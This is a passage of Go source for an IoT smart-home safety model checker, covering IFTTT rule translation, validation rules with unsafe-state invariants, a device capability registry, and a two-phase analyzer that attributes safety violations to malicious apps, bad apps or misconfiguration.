		}
		devSeen[devID] = true
		sys.Devices = append(sys.Devices, config.Device{
			ID: devID, Label: devID, Model: model, Association: assoc,
		})
		return nil
	}

	for _, a := range applets {
		trigID := a.Trigger.Service + "_" + a.Trigger.Device
		actID := a.Action.Service + "_" + a.Action.Device
		if err := addDevice(a.Trigger.Service, trigID,
			strings.SplitN(triggerEvent(a.Trigger), ".", 2)[0], assocForTrigger(a.Trigger)); err != nil {
			return nil, nil, err
		}
		if err := addDevice(a.Action.Service, actID, actionCommand(a.Action),
			assocForAction(a.Action)); err != nil {
			return nil, nil, err
		}
		app, err := smartapp.Translate(ToGroovy(a))
		if err != nil {
			return nil, nil, fmt.Errorf("ifttt: translating %q: %w", a.Name, err)
		}
		apps[a.Name] = app
		sys.Apps = append(sys.Apps, config.AppInstance{
			App: a.Name,
			Bindings: map[string]config.Binding{
				"trigger": {DeviceIDs: []string{trigID}},
				"target":  {DeviceIDs: []string{actID}},
			},
		})
	}
	if err := sys.Validate(); err != nil {
		return nil, nil, err
	}
	return sys, apps, nil
}

// assocForTrigger/assocForAction attach property roles to well-known
// endpoints so the default catalog binds (main door, alarm, ...).
func assocForTrigger(t Trigger) string {
	if strings.Contains(t.Device, "front") && strings.HasPrefix(t.Event, "contact") {
		return "entry contact"
	}
	return ""
}

func assocForAction(a Action) string {
	switch {
	case a.Command == "siren" || a.Command == "strobe" || a.Command == "both" || a.Command == "off":
		return "alarm"
	case a.Command == "lock" || a.Command == "unlock":
		if strings.Contains(a.Device, "front") || strings.Contains(a.Device, "main") {
			return "main door"
		}
	case a.Service == "voip":
		return "voip call"
	case a.Command == "open" || a.Command == "close":
		return "garage door"
	}
	return ""
}
