package ifttt

import (
	"time"

	"iotsan/internal/checker"
	"iotsan/internal/model"
)

// Table9Applets returns the 10 smart-home rules of the paper's §11
// validation set. Rule numbers follow the paper's table: rules 1/3 light
// on intrusion without alarming, rule 2 fires the siren on a voice
// command, rule 4 auto-silences the siren, rules 5/6 unlock doors on
// voice commands, rules 7/8 light on intrusion, rule 9 is benign, rule
// 10 places a phone call only on a doorbell button.
func Table9Applets() []Applet {
	return []Applet{
		{Name: "rule1", // motion → hue light (no siren)
			Trigger: Trigger{Service: "smartthings", Device: "hall_motion", Event: "motion.active"},
			Action:  Action{Service: "hue", Device: "hall_hue", Command: "on"}},
		{Name: "rule2", // alexa phrase → siren
			Trigger: Trigger{Service: "alexa", Device: "echo", Event: "voice.phrase"},
			Action:  Action{Service: "smartthings", Device: "siren", Command: "siren"}},
		{Name: "rule3", // ring doorbell motion → porch wemo light
			Trigger: Trigger{Service: "ring", Device: "doorbell", Event: "ding"},
			Action:  Action{Service: "wemo", Device: "porch_light", Command: "on"}},
		{Name: "rule4", // siren on → siren off (auto-silencer)
			Trigger: Trigger{Service: "smartthings", Device: "siren", Event: "alarm.siren"},
			Action:  Action{Service: "smartthings", Device: "siren", Command: "off"}},
		{Name: "rule5", // assistant phrase → unlock front door
			Trigger: Trigger{Service: "assistant", Device: "home_mini", Event: "voice.phrase"},
			Action:  Action{Service: "smartthings", Device: "front_lock", Command: "unlock"}},
		{Name: "rule6", // alexa phrase → unlock main door
			Trigger: Trigger{Service: "alexa", Device: "echo_dot", Event: "voice.phrase"},
			Action:  Action{Service: "smartthings", Device: "main_lock", Command: "unlock"}},
		{Name: "rule7", // motion → hue accent (no call)
			Trigger: Trigger{Service: "smartthings", Device: "yard_motion", Event: "motion.active"},
			Action:  Action{Service: "hue", Device: "accent_hue", Command: "on"}},
		{Name: "rule8", // back contact open → wemo fan (no call)
			Trigger: Trigger{Service: "smartthings", Device: "back_contact", Event: "contact.open"},
			Action:  Action{Service: "wemo", Device: "fan", Command: "on"}},
		{Name: "rule9", // temperature → nest heat (benign)
			Trigger: Trigger{Service: "smartthings", Device: "room_temp", Event: "temperature"},
			Action:  Action{Service: "nest", Device: "nest_thermo", Command: "heat"}},
		{Name: "rule10", // doorbell button → voip call
			Trigger: Trigger{Service: "alexa", Device: "door_button", Event: "voice.phrase"},
			Action:  Action{Service: "voip", Device: "call_owner", Command: "ring"}},
	}
}

// Table9Properties are the four unsafe physical states of Table 9,
// instantiated over the IFTTT system's devices.
func Table9Properties() []model.Invariant {
	return []model.Invariant{
		{
			ID:          "ifttt.siren-on-intruder",
			Description: "Siren/strobe is not activated when intruder (i.e., motion) is detected",
			Holds: func(v *model.View) bool {
				if v.Mode() != "Away" || !v.AnyMotion() {
					return true
				}
				for _, d := range v.ByAssociation("alarm") {
					if !v.AttrEquals(d, "alarm", "off") {
						return true
					}
				}
				return false
			},
		},
		{
			ID:          "ifttt.no-spurious-siren",
			Description: "Siren/strobe is activated when no intruder is detected",
			Holds: func(v *model.View) bool {
				alarmed := false
				for _, d := range v.ByAssociation("alarm") {
					if !v.AttrEquals(d, "alarm", "off") {
						alarmed = true
					}
				}
				if !alarmed {
					return true
				}
				return v.AnyMotion() || v.SmokeDetected() || anyContactOpen(v)
			},
		},
		{
			ID:          "ifttt.door-unlocked-away",
			Description: "The main/front door is unlocked when no one is at home",
			Holds: func(v *model.View) bool {
				if v.Mode() != "Away" {
					return true
				}
				for _, d := range v.ByAssociation("main door") {
					if v.AttrEquals(d, "lock", "unlocked") {
						return false
					}
				}
				return true
			},
		},
		{
			ID:          "ifttt.call-on-intruder",
			Description: "A phone call is not triggered when intruder is detected",
			Holds: func(v *model.View) bool {
				if v.Mode() != "Away" {
					return true
				}
				if !v.AnyMotion() && !anyContactOpen(v) {
					return true
				}
				for _, d := range v.ByAssociation("voip call") {
					if v.AttrEquals(d, "tone", "beeping") {
						return true
					}
				}
				return false
			},
		},
	}
}

func anyContactOpen(v *model.View) bool {
	for _, d := range v.ByCapability("contactSensor") {
		if v.AttrEquals(d, "contact", "open") {
			return true
		}
	}
	return false
}

// Table9Result reports the violated properties with their responsible
// rules (derived from the violation trails).
type Table9Result struct {
	ViolatedProperties []string
	Violations         int
	Result             *checker.Result
}

// RunTable9 verifies the validation applet set against the four
// properties, reproducing Table 9's shape (7 violations of 4 unsafe
// physical states in the paper).
func RunTable9(maxEvents int) (*Table9Result, error) {
	sys, apps, err := BuildSystem(Table9Applets())
	if err != nil {
		return nil, err
	}
	sys.Mode = "Away" // the paper's scenario: intrusion while away
	m, err := model.New(sys, apps, model.Options{
		MaxEvents:      maxEvents,
		Invariants:     Table9Properties(),
		InspectCascade: true, // strict Spin-style checking (§2.3)
	})
	if err != nil {
		return nil, err
	}
	res := checker.Run(m.System(), checker.Options{
		MaxDepth: maxEvents + 8, MaxStates: 300000, Deadline: 20 * time.Second,
	})
	out := &Table9Result{Result: res}
	out.ViolatedProperties = res.PropertyIDs()
	out.Violations = len(res.Violations)
	return out, nil
}
