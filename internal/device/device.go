// Package device models the IoT devices an IotSan system is built from.
//
// Following §8 of the paper, each device is modeled by its capabilities:
// the attributes it exposes (with their value domains), the commands it
// accepts, and the events it can generate. Sensors generate events from
// the physical environment; actuators change state in response to
// commands and broadcast state-change events to subscribers. The package
// registers 30+ device models covering the paper's corpus, plus the
// location (mode) pseudo-device and environmental event sources (sunrise
// and sunset).
package device

import (
	"fmt"
	"sort"
)

// Attribute describes one observable attribute of a capability.
type Attribute struct {
	Name    string
	Values  []string // enumerated domain; nil for numeric attributes
	Numeric bool
	// GenValues are the representative numeric values the model checker
	// injects when this attribute belongs to a sensor (discretising the
	// physical domain, e.g. temperature {50, 75, 95}).
	GenValues []int
	// Default is the initial value: index into Values, or the numeric
	// starting point for numeric attributes.
	Default int
}

// Command describes one actuator command of a capability.
type Command struct {
	Name      string
	Attribute string // attribute the command drives
	Value     string // enum value it sets ("" when the command takes an argument)
	TakesArg  bool   // numeric argument commands (setLevel, setHeatingSetpoint)
}

// Capability is a named bundle of attributes and commands, mirroring
// SmartThings capabilities (capability.switch, capability.lock, ...).
type Capability struct {
	Name       string // SmartThings id without prefix: "switch", "motionSensor"
	Attributes []Attribute
	Commands   []Command
	Sensor     bool // generates events from the environment
}

// Attribute returns the attribute schema with the given name, or nil.
func (c *Capability) Attribute(name string) *Attribute {
	for i := range c.Attributes {
		if c.Attributes[i].Name == name {
			return &c.Attributes[i]
		}
	}
	return nil
}

// Command returns the command schema with the given name, or nil.
func (c *Capability) Command(name string) *Command {
	for i := range c.Commands {
		if c.Commands[i].Name == name {
			return &c.Commands[i]
		}
	}
	return nil
}

// Model is a device type: a named set of capabilities, as exposed by a
// SmartThings device handler.
type Model struct {
	Name         string // "Motion Sensor", "Smart Power Outlet", ...
	Capabilities []string
}

var (
	capabilities = map[string]*Capability{}
	models       = map[string]*Model{}
)

// RegisterCapability adds a capability to the global registry. It panics
// on duplicates, mirroring the fail-fast registration style of gopacket's
// RegisterLayerType.
func RegisterCapability(c *Capability) *Capability {
	if _, dup := capabilities[c.Name]; dup {
		panic(fmt.Sprintf("device: duplicate capability %q", c.Name))
	}
	capabilities[c.Name] = c
	return c
}

// RegisterModel adds a device model to the global registry.
func RegisterModel(m *Model) *Model {
	if _, dup := models[m.Name]; dup {
		panic(fmt.Sprintf("device: duplicate model %q", m.Name))
	}
	for _, c := range m.Capabilities {
		if capabilities[c] == nil {
			panic(fmt.Sprintf("device: model %q references unknown capability %q", m.Name, c))
		}
	}
	models[m.Name] = m
	return m
}

// CapabilityByName returns a registered capability, or nil.
func CapabilityByName(name string) *Capability { return capabilities[name] }

// ModelByName returns a registered device model, or nil.
func ModelByName(name string) *Model { return models[name] }

// Capabilities returns all registered capability names, sorted.
func Capabilities() []string {
	out := make([]string, 0, len(capabilities))
	for n := range capabilities {
		out = append(out, n)
	}
	sort.Strings(out)
	return out
}

// Models returns all registered model names, sorted.
func Models() []string {
	out := make([]string, 0, len(models))
	for n := range models {
		out = append(out, n)
	}
	sort.Strings(out)
	return out
}

// HasCapability reports whether the model exposes the capability.
func (m *Model) HasCapability(name string) bool {
	for _, c := range m.Capabilities {
		if c == name {
			return true
		}
	}
	return false
}

// Attributes returns the attribute schemas of all the model's
// capabilities, deduplicated by name, in deterministic order.
func (m *Model) Attributes() []Attribute {
	var out []Attribute
	seen := map[string]bool{}
	for _, cn := range m.Capabilities {
		for _, a := range capabilities[cn].Attributes {
			if !seen[a.Name] {
				seen[a.Name] = true
				out = append(out, a)
			}
		}
	}
	return out
}

// FindCommand resolves a command name against the model's capabilities.
func (m *Model) FindCommand(name string) (*Capability, *Command) {
	for _, cn := range m.Capabilities {
		c := capabilities[cn]
		if cmd := c.Command(name); cmd != nil {
			return c, cmd
		}
	}
	return nil, nil
}

// FindAttribute resolves an attribute name against the model's capabilities.
func (m *Model) FindAttribute(name string) *Attribute {
	for _, cn := range m.Capabilities {
		if a := capabilities[cn].Attribute(name); a != nil {
			return a
		}
	}
	return nil
}

// IsSensor reports whether any capability of the model generates
// environment events.
func (m *Model) IsSensor() bool {
	for _, cn := range m.Capabilities {
		if capabilities[cn].Sensor {
			return true
		}
	}
	return false
}

// IsActuator reports whether the model accepts any command.
func (m *Model) IsActuator() bool {
	for _, cn := range m.Capabilities {
		if len(capabilities[cn].Commands) > 0 {
			return true
		}
	}
	return false
}
