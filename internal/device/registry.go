package device

// This file registers the built-in capabilities and the 30+ device models
// supported by the model generator (§8: "Currently, we support 30
// different IoT devices").

func enumAttr(name string, def int, values ...string) Attribute {
	return Attribute{Name: name, Values: values, Default: def}
}

func numAttr(name string, def int, gen ...int) Attribute {
	return Attribute{Name: name, Numeric: true, Default: def, GenValues: gen}
}

func setCmd(name, attr, value string) Command {
	return Command{Name: name, Attribute: attr, Value: value}
}

func argCmd(name, attr string) Command {
	return Command{Name: name, Attribute: attr, TakesArg: true}
}

func init() {
	// ---- Capabilities ----

	RegisterCapability(&Capability{
		Name:       "switch",
		Attributes: []Attribute{enumAttr("switch", 1, "on", "off")},
		Commands:   []Command{setCmd("on", "switch", "on"), setCmd("off", "switch", "off")},
	})
	RegisterCapability(&Capability{
		Name:       "switchLevel",
		Attributes: []Attribute{numAttr("level", 100)},
		Commands:   []Command{argCmd("setLevel", "level")},
	})
	RegisterCapability(&Capability{
		Name:       "motionSensor",
		Sensor:     true,
		Attributes: []Attribute{enumAttr("motion", 1, "active", "inactive")},
	})
	RegisterCapability(&Capability{
		Name:       "contactSensor",
		Sensor:     true,
		Attributes: []Attribute{enumAttr("contact", 1, "open", "closed")},
	})
	RegisterCapability(&Capability{
		Name:       "presenceSensor",
		Sensor:     true,
		Attributes: []Attribute{enumAttr("presence", 0, "present", "not present")},
	})
	RegisterCapability(&Capability{
		Name:       "temperatureMeasurement",
		Sensor:     true,
		Attributes: []Attribute{numAttr("temperature", 70, 50, 75, 95)},
	})
	RegisterCapability(&Capability{
		Name:   "thermostat",
		Sensor: true,
		Attributes: []Attribute{
			enumAttr("thermostatMode", 2, "heat", "cool", "off", "auto"),
			numAttr("heatingSetpoint", 68),
			numAttr("coolingSetpoint", 76),
			numAttr("temperature", 70, 50, 75, 95),
		},
		Commands: []Command{
			setCmd("heat", "thermostatMode", "heat"),
			setCmd("cool", "thermostatMode", "cool"),
			setCmd("auto", "thermostatMode", "auto"),
			argCmd("setHeatingSetpoint", "heatingSetpoint"),
			argCmd("setCoolingSetpoint", "coolingSetpoint"),
			argCmd("setThermostatMode", "thermostatMode"),
		},
	})
	RegisterCapability(&Capability{
		Name:       "lock",
		Attributes: []Attribute{enumAttr("lock", 0, "locked", "unlocked")},
		Commands:   []Command{setCmd("lock", "lock", "locked"), setCmd("unlock", "lock", "unlocked")},
	})
	RegisterCapability(&Capability{
		Name:       "doorControl",
		Attributes: []Attribute{enumAttr("door", 1, "open", "closed", "opening", "closing")},
		Commands:   []Command{setCmd("open", "door", "open"), setCmd("close", "door", "closed")},
	})
	RegisterCapability(&Capability{
		Name:       "garageDoorControl",
		Attributes: []Attribute{enumAttr("door", 1, "open", "closed", "opening", "closing")},
		Commands:   []Command{setCmd("open", "door", "open"), setCmd("close", "door", "closed")},
	})
	RegisterCapability(&Capability{
		Name:       "smokeDetector",
		Sensor:     true,
		Attributes: []Attribute{enumAttr("smoke", 1, "detected", "clear", "tested")},
	})
	RegisterCapability(&Capability{
		Name:       "carbonMonoxideDetector",
		Sensor:     true,
		Attributes: []Attribute{enumAttr("carbonMonoxide", 1, "detected", "clear", "tested")},
	})
	RegisterCapability(&Capability{
		Name:       "waterSensor",
		Sensor:     true,
		Attributes: []Attribute{enumAttr("water", 0, "dry", "wet")},
	})
	RegisterCapability(&Capability{
		Name:       "alarm",
		Attributes: []Attribute{enumAttr("alarm", 0, "off", "siren", "strobe", "both")},
		Commands: []Command{
			setCmd("off", "alarm", "off"),
			setCmd("siren", "alarm", "siren"),
			setCmd("strobe", "alarm", "strobe"),
			setCmd("both", "alarm", "both"),
		},
	})
	RegisterCapability(&Capability{
		Name:       "valve",
		Attributes: []Attribute{enumAttr("valve", 0, "open", "closed")},
		Commands:   []Command{setCmd("open", "valve", "open"), setCmd("close", "valve", "closed")},
	})
	RegisterCapability(&Capability{
		Name:       "illuminanceMeasurement",
		Sensor:     true,
		Attributes: []Attribute{numAttr("illuminance", 300, 5, 500)},
	})
	RegisterCapability(&Capability{
		Name:       "relativeHumidityMeasurement",
		Sensor:     true,
		Attributes: []Attribute{numAttr("humidity", 45, 20, 80)},
	})
	RegisterCapability(&Capability{
		Name:   "button",
		Sensor: true,
		// Buttons are momentary; "released" is the neutral rest state
		// that lets pushed/held events fire from the initial state.
		Attributes: []Attribute{enumAttr("button", 0, "released", "pushed", "held")},
	})
	RegisterCapability(&Capability{
		Name:       "accelerationSensor",
		Sensor:     true,
		Attributes: []Attribute{enumAttr("acceleration", 1, "active", "inactive")},
	})
	RegisterCapability(&Capability{
		Name:       "battery",
		Sensor:     true,
		Attributes: []Attribute{numAttr("battery", 80, 5, 80)},
	})
	RegisterCapability(&Capability{
		Name:       "powerMeter",
		Sensor:     true,
		Attributes: []Attribute{numAttr("power", 0, 0, 150)},
	})
	RegisterCapability(&Capability{
		Name:       "energyMeter",
		Sensor:     true,
		Attributes: []Attribute{numAttr("energy", 0, 0, 10)},
	})
	RegisterCapability(&Capability{
		Name:       "windowShade",
		Attributes: []Attribute{enumAttr("windowShade", 1, "open", "closed", "partially open")},
		Commands:   []Command{setCmd("open", "windowShade", "open"), setCmd("close", "windowShade", "closed")},
	})
	RegisterCapability(&Capability{
		Name:       "musicPlayer",
		Attributes: []Attribute{enumAttr("status", 1, "playing", "stopped", "paused")},
		Commands: []Command{
			setCmd("play", "status", "playing"),
			setCmd("stop", "status", "stopped"),
			setCmd("pause", "status", "paused"),
		},
	})
	RegisterCapability(&Capability{
		Name:       "imageCapture",
		Attributes: []Attribute{enumAttr("image", 0, "idle", "taken")},
		Commands:   []Command{setCmd("take", "image", "taken")},
	})
	RegisterCapability(&Capability{
		Name:       "soilMoistureMeasurement",
		Sensor:     true,
		Attributes: []Attribute{numAttr("soilMoisture", 40, 10, 60)},
	})
	RegisterCapability(&Capability{
		Name:       "waterLevelMeasurement",
		Sensor:     true,
		Attributes: []Attribute{numAttr("waterLevel", 50, 10, 90)},
	})
	RegisterCapability(&Capability{
		Name:       "sleepSensor",
		Sensor:     true,
		Attributes: []Attribute{enumAttr("sleeping", 1, "sleeping", "not sleeping")},
	})
	RegisterCapability(&Capability{
		Name:       "colorControl",
		Attributes: []Attribute{numAttr("hue", 0), numAttr("saturation", 0)},
		Commands:   []Command{argCmd("setHue", "hue"), argCmd("setSaturation", "saturation")},
	})
	RegisterCapability(&Capability{
		Name:       "speechSynthesis",
		Attributes: []Attribute{enumAttr("speech", 0, "idle", "speaking")},
		Commands:   []Command{setCmd("speak", "speech", "speaking")},
	})
	RegisterCapability(&Capability{
		Name:       "tone",
		Attributes: []Attribute{enumAttr("tone", 0, "idle", "beeping")},
		Commands:   []Command{setCmd("beep", "tone", "beeping")},
	})

	// ---- Device models (30+) ----

	RegisterModel(&Model{Name: "Smart Power Outlet", Capabilities: []string{"switch", "powerMeter"}})
	RegisterModel(&Model{Name: "Smart Switch", Capabilities: []string{"switch"}})
	RegisterModel(&Model{Name: "Dimmer Switch", Capabilities: []string{"switch", "switchLevel"}})
	RegisterModel(&Model{Name: "Smart Bulb", Capabilities: []string{"switch", "switchLevel"}})
	RegisterModel(&Model{Name: "Color Bulb", Capabilities: []string{"switch", "switchLevel", "colorControl"}})
	RegisterModel(&Model{Name: "Motion Sensor", Capabilities: []string{"motionSensor", "battery"}})
	RegisterModel(&Model{Name: "Multipurpose Sensor", Capabilities: []string{"contactSensor", "accelerationSensor", "temperatureMeasurement", "battery"}})
	RegisterModel(&Model{Name: "Contact Sensor", Capabilities: []string{"contactSensor", "battery"}})
	RegisterModel(&Model{Name: "Presence Sensor", Capabilities: []string{"presenceSensor", "battery"}})
	RegisterModel(&Model{Name: "Temperature Sensor", Capabilities: []string{"temperatureMeasurement", "battery"}})
	RegisterModel(&Model{Name: "SmartSense Multi", Capabilities: []string{"contactSensor", "temperatureMeasurement", "accelerationSensor", "battery"}})
	RegisterModel(&Model{Name: "Thermostat", Capabilities: []string{"thermostat", "temperatureMeasurement"}})
	RegisterModel(&Model{Name: "Smart Lock", Capabilities: []string{"lock", "battery"}})
	RegisterModel(&Model{Name: "Door Control", Capabilities: []string{"doorControl", "contactSensor"}})
	RegisterModel(&Model{Name: "Garage Door Opener", Capabilities: []string{"garageDoorControl", "contactSensor"}})
	RegisterModel(&Model{Name: "Smoke Detector", Capabilities: []string{"smokeDetector", "battery"}})
	RegisterModel(&Model{Name: "CO Detector", Capabilities: []string{"carbonMonoxideDetector", "battery"}})
	RegisterModel(&Model{Name: "Smoke and CO Detector", Capabilities: []string{"smokeDetector", "carbonMonoxideDetector", "battery"}})
	RegisterModel(&Model{Name: "Water Leak Sensor", Capabilities: []string{"waterSensor", "battery"}})
	RegisterModel(&Model{Name: "Siren Alarm", Capabilities: []string{"alarm", "battery"}})
	RegisterModel(&Model{Name: "Water Valve", Capabilities: []string{"valve"}})
	RegisterModel(&Model{Name: "Illuminance Sensor", Capabilities: []string{"illuminanceMeasurement", "battery"}})
	RegisterModel(&Model{Name: "Humidity Sensor", Capabilities: []string{"relativeHumidityMeasurement", "battery"}})
	RegisterModel(&Model{Name: "Button Controller", Capabilities: []string{"button", "battery"}})
	RegisterModel(&Model{Name: "Window Shade", Capabilities: []string{"windowShade"}})
	RegisterModel(&Model{Name: "Speaker", Capabilities: []string{"musicPlayer", "speechSynthesis", "tone"}})
	RegisterModel(&Model{Name: "Camera", Capabilities: []string{"imageCapture", "motionSensor"}})
	RegisterModel(&Model{Name: "Soil Moisture Sensor", Capabilities: []string{"soilMoistureMeasurement", "battery"}})
	RegisterModel(&Model{Name: "Sprinkler Controller", Capabilities: []string{"switch", "valve"}})
	RegisterModel(&Model{Name: "Sleep Sensor", Capabilities: []string{"sleepSensor", "battery"}})
	RegisterModel(&Model{Name: "Energy Meter", Capabilities: []string{"energyMeter", "powerMeter"}})
	RegisterModel(&Model{Name: "Space Heater", Capabilities: []string{"switch"}})
	RegisterModel(&Model{Name: "Window AC", Capabilities: []string{"switch"}})
	RegisterModel(&Model{Name: "Water Level Sensor", Capabilities: []string{"waterLevelMeasurement", "battery"}})
}
