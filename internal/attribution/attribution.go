// Package attribution implements IotSan's Output Analyzer (§9): the
// two-phase heuristic that attributes safety violations to potentially
// malicious apps, bad apps, or misconfiguration.
//
// Phase 1: when a user installs a new app, every possible configuration
// of that app (against the installed devices) is verified independently.
// A violation ratio above the threshold attributes the app as
// potentially malicious.
//
// Phase 2: otherwise the app is verified in conjunction with the
// previously installed apps, again across all configurations. A ratio
// above the threshold attributes it as a bad app; otherwise violations
// are attributed to misconfiguration and safe configurations are
// suggested.
package attribution

import (
	"fmt"

	"iotsan/internal/checker"
	"iotsan/internal/config"
	"iotsan/internal/device"
	"iotsan/internal/ir"
	"iotsan/internal/model"
	"iotsan/internal/props"
)

// Verdict is the attribution outcome.
type Verdict int

// Verdicts.
const (
	Clean Verdict = iota
	Misconfigured
	Bad
	Malicious
)

func (v Verdict) String() string {
	switch v {
	case Clean:
		return "clean"
	case Misconfigured:
		return "misconfigured"
	case Bad:
		return "bad app"
	case Malicious:
		return "potentially malicious"
	}
	return fmt.Sprintf("Verdict(%d)", int(v))
}

// Options configure attribution.
type Options struct {
	// Threshold is the violation-ratio cutoff (default 0.9, §9).
	Threshold float64
	// MaxConfigs caps configuration enumeration (default 64).
	MaxConfigs int
	// MaxEvents per verification run (default 3).
	MaxEvents int
	// Failures enables failure enumeration during verification.
	Failures bool
	// Thresholds parameterise the physical properties.
	Thresholds props.Thresholds
	// Strategy selects the checker search strategy for each
	// verification run (sequential DFS default).
	Strategy checker.StrategyKind
	// Workers is the checker goroutine count for the parallel strategy
	// (0 = GOMAXPROCS).
	Workers int
}

func (o Options) withDefaults() Options {
	if o.Threshold == 0 {
		o.Threshold = 0.9
	}
	if o.MaxConfigs == 0 {
		o.MaxConfigs = 64
	}
	if o.MaxEvents == 0 {
		o.MaxEvents = 3
	}
	if o.Thresholds == (props.Thresholds{}) {
		o.Thresholds = props.DefaultThresholds()
	}
	return o
}

// Report is the attribution result for one newly installed app.
type Report struct {
	App     string
	Verdict Verdict

	Phase1Total     int
	Phase1Violating int
	Phase2Total     int
	Phase2Violating int

	// ViolatedProperties aggregates the distinct property ids seen.
	ViolatedProperties []string
	// SafeBindings are configurations with no violations (suggestions
	// for the user, §9), present when the verdict is Misconfigured.
	SafeBindings []map[string]config.Binding
}

// Phase1Ratio returns the fraction of standalone configurations that
// violate at least one property.
func (r *Report) Phase1Ratio() float64 {
	if r.Phase1Total == 0 {
		return 0
	}
	return float64(r.Phase1Violating) / float64(r.Phase1Total)
}

// Phase2Ratio returns the violating fraction in conjunction with the
// installed apps.
func (r *Report) Phase2Ratio() float64 {
	if r.Phase2Total == 0 {
		return 0
	}
	return float64(r.Phase2Violating) / float64(r.Phase2Total)
}

// AttributeNewApp runs the two-phase analysis for newApp being added to
// sys (whose Apps are the previously installed instances). The apps map
// must contain the translation of every installed app and of newApp.
func AttributeNewApp(sys *config.System, newApp *ir.App, apps map[string]*ir.App, opts Options) (*Report, error) {
	opts = opts.withDefaults()
	rep := &Report{App: newApp.Name}
	violProps := map[string]bool{}

	configs := EnumerateConfigs(sys, newApp, opts.MaxConfigs)
	if len(configs) == 0 {
		return nil, fmt.Errorf("attribution: no viable configuration for %q (missing devices)", newApp.Name)
	}

	relevant := relevantAttrs(newApp, sys, apps)

	// Baseline: properties violated by the environment with no app under
	// test installed (e.g. "mode should be Away when empty" in a home
	// with no mode manager). These are not attributable to the new app.
	_, baseIDs, err := verify(sys, sys.Apps, apps, relevant, opts)
	if err != nil {
		return nil, err
	}
	baseline := map[string]bool{}
	for _, id := range baseIDs {
		baseline[id] = true
	}
	attributable := func(ids []string) []string {
		var out []string
		for _, id := range ids {
			if !baseline[id] {
				out = append(out, id)
			}
		}
		return out
	}

	// Phase 1: the new app alone, each configuration independently.
	for _, b := range configs {
		_, ids, err := verify(sys, []config.AppInstance{{App: newApp.Name, Bindings: b}}, apps, relevant, opts)
		if err != nil {
			return nil, err
		}
		ids = attributable(ids)
		rep.Phase1Total++
		if len(ids) > 0 {
			rep.Phase1Violating++
			for _, id := range ids {
				violProps[id] = true
			}
		}
	}
	if rep.Phase1Ratio() >= opts.Threshold {
		rep.Verdict = Malicious
		rep.ViolatedProperties = keys(violProps)
		return rep, nil
	}

	// Phase 2: in conjunction with the installed apps.
	var anyViolation bool
	for _, b := range configs {
		instances := append(append([]config.AppInstance{}, sys.Apps...),
			config.AppInstance{App: newApp.Name, Bindings: b})
		_, ids, err := verify(sys, instances, apps, relevant, opts)
		if err != nil {
			return nil, err
		}
		ids = attributable(ids)
		rep.Phase2Total++
		if len(ids) > 0 {
			anyViolation = true
			rep.Phase2Violating++
			for _, id := range ids {
				violProps[id] = true
			}
		} else {
			rep.SafeBindings = append(rep.SafeBindings, b)
		}
	}
	rep.ViolatedProperties = keys(violProps)
	switch {
	case rep.Phase2Ratio() >= opts.Threshold:
		rep.Verdict = Bad
		rep.SafeBindings = nil
	case anyViolation:
		rep.Verdict = Misconfigured
	default:
		rep.Verdict = Clean
		rep.SafeBindings = nil
	}
	return rep, nil
}

// verify builds and checks one candidate system, reporting whether any
// property is violated. relevant restricts the event space: all sensed
// attributes plus the attributes the analyzed apps subscribe to (so
// actuator-triggered apps are reachable via physical user interaction,
// without flooding the baseline with arbitrary manual actuations).
func verify(sys *config.System, instances []config.AppInstance, apps map[string]*ir.App, relevant map[string]bool, opts Options) (bool, []string, error) {
	cfg := &config.System{
		Name: sys.Name, Modes: sys.Modes, Mode: sys.Mode,
		Devices: sys.Devices, Apps: instances, Phones: sys.Phones,
	}
	invs, err := props.CompileInvariants(cfg, nil, opts.Thresholds)
	if err != nil {
		return false, nil, err
	}
	m, err := model.New(cfg, apps, model.Options{
		MaxEvents: opts.MaxEvents, Failures: opts.Failures,
		CheckConflicts: true, CheckLeakage: true, CheckRobustness: opts.Failures,
		Invariants:       invs,
		RelevantAttrs:    relevant,
		UserModeEvents:   true, // §9: reach mode-triggered behaviour standalone
		UserDeviceEvents: true, // physical interaction on subscribed attributes
	})
	if err != nil {
		return false, nil, err
	}
	res := checker.Run(m.System(), checker.Options{
		MaxDepth: opts.MaxEvents + 4, MaxStates: 25000,
		Strategy: opts.Strategy, Workers: opts.Workers,
	})
	ids := res.PropertyIDs()
	// Execution errors are tooling diagnostics, not safety violations.
	var real []string
	for _, id := range ids {
		if id != model.PropExecError {
			real = append(real, id)
		}
	}
	return len(real) > 0, real, nil
}

// relevantAttrs builds the event space for attribution runs: every
// sensed attribute of the registry plus the attributes the new and
// installed apps subscribe to.
func relevantAttrs(newApp *ir.App, sys *config.System, apps map[string]*ir.App) map[string]bool {
	out := map[string]bool{}
	for _, cn := range device.Capabilities() {
		c := device.CapabilityByName(cn)
		if !c.Sensor {
			continue
		}
		for _, a := range c.Attributes {
			out[a.Name] = true
		}
	}
	add := func(app *ir.App) {
		if app == nil {
			return
		}
		for _, sub := range app.Subscriptions {
			if sub.Attribute != "" {
				out[sub.Attribute] = true
			}
		}
	}
	add(newApp)
	for _, inst := range sys.Apps {
		add(apps[inst.App])
	}
	return out
}

func keys(m map[string]bool) []string {
	var out []string
	for k := range m {
		out = append(out, k)
	}
	sortStrings(out)
	return out
}

func sortStrings(s []string) {
	for i := 1; i < len(s); i++ {
		for j := i; j > 0 && s[j] < s[j-1]; j-- {
			s[j], s[j-1] = s[j-1], s[j]
		}
	}
}

// EnumerateConfigs generates the possible configurations of an app
// against the system's installed devices (§9 phase 1), capped at limit.
// Device inputs bind to each compatible device (and, when multiple, also
// to the full compatible set); enum inputs take each option; mode inputs
// each configured mode; literals take representative defaults.
func EnumerateConfigs(sys *config.System, app *ir.App, limit int) []map[string]config.Binding {
	type choice struct {
		input ir.Input
		opts  []config.Binding
	}
	var dims []choice

	for _, in := range app.Inputs {
		var opts []config.Binding
		switch in.Kind {
		case ir.InputDevice:
			compatible := devicesWithCapability(sys, in.Capability)
			for _, id := range compatible {
				opts = append(opts, config.Binding{DeviceIDs: []string{id}})
			}
			if in.Multiple && len(compatible) > 1 {
				opts = append(opts, config.Binding{DeviceIDs: compatible})
			}
			if len(opts) == 0 {
				if !in.Required {
					opts = append(opts, config.Binding{})
				} else {
					return nil // unconfigurable: required device missing
				}
			}
		case ir.InputEnum:
			for _, o := range in.Options {
				opts = append(opts, config.Binding{Value: o})
			}
			if len(opts) == 0 {
				opts = append(opts, config.Binding{Value: ""})
			}
		case ir.InputMode:
			for _, m := range sys.Modes {
				opts = append(opts, config.Binding{Value: m})
			}
		case ir.InputNumber:
			opts = append(opts, config.Binding{Value: 70})
		case ir.InputBool:
			opts = append(opts, config.Binding{Value: true}, config.Binding{Value: false})
